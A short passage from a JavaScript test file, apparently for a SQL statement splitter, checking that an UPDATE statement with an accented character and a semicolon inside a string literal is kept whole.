    assert.equal(statement?.text, "UPDATE t SET a = 'é;' WHERE id = 300");
  });
});
